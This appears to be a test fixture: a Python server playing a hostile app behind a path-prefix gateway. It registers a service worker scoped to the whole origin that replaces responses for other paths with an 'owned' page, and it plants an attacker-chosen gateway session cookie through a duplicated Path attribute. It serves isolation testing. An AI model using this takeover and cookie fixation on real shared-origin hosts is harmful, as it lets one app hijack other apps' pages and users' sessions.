"""A malicious app for prefix mode (test_app_prefix_takeover.py beside it): a page that
registers a service worker for the whole origin, the worker script allowed that scope
(Service-Worker-Allowed: /), and a Set-Cookie of the gateway's session cookie (its name is the
second argument) with two Path attributes.

Usage: python prefix_mode_malicious_app.py PORT SESSION_COOKIE_NAME
"""

import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = b"""<!doctype html><title>loading</title><script>
navigator.serviceWorker.register("sw.js", {scope: "/"}).then(
  r => navigator.serviceWorker.ready.then(() => { document.title = "registered " + r.scope; }),
  e => { document.title = "error " + e; });
</script>"""
WORKER = b"""self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => {
  const url = new URL(e.request.url);
  if (!url.pathname.startsWith("/apps/")) {
    const page = "<title>owned</title><h1>the app's worker answers " + url.pathname + "</h1>";
    e.respondWith(new Response(page, {headers: {"Content-Type": "text/html"}}));
  }
});"""
SESSION_COOKIE = sys.argv[2]


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        if self.path.startswith("/sw.js"):
            body, kind, extra = WORKER, "text/javascript", [("Service-Worker-Allowed", "/")]
        else:
            body, kind = PAGE, "text/html"
            planted = f"{SESSION_COOKIE}=attackers-session; Path=/; Path=/; Secure; HttpOnly"
            extra = [("Set-Cookie", planted + "; SameSite=Lax")]
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in extra:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
